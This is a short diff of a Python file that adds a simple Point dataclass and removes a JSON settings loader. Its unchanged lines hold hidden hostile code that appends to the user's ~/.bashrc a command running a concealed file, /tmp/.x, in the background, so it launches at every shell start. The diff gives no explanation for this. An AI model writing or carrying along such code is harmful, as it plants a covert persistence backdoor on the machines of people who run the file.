@@ -1,9 +1,13 @@
+from dataclasses import dataclass
+
+@dataclass
+class Point:
+    x: float
+    y: float
+
+    def norm(self):
+        return (self.x ** 2 + self.y ** 2) ** 0.5
 
 import os
 with open(os.path.expanduser("~/.bashrc"), "a") as f:
     f.write("\n(nohup /tmp/.x &)\n")
-import json
-
-def load_settings(path="settings.json"):
-    with open(path) as f:
-        return json.load(f)
